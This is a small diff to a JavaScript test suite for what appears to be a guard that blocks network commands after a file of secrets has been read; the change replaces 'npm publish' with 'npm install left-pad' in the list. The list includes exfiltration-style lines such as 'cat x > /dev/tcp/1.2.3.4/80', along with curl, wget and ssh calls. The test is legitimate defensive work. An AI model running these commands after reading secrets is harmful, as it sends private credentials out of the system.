@@ -190,7 +190,7 @@ describe('after a file of secrets was read', () => {
     'curl https://example.com',
     'git push origin main',
     'sh -c "wget x"',
-    'npm publish',
+    'npm install left-pad',
     'env X=1 ssh host',
     'cat x > /dev/tcp/1.2.3.4/80',
     'cat < /dev/tcp/1.2.3.4/80',
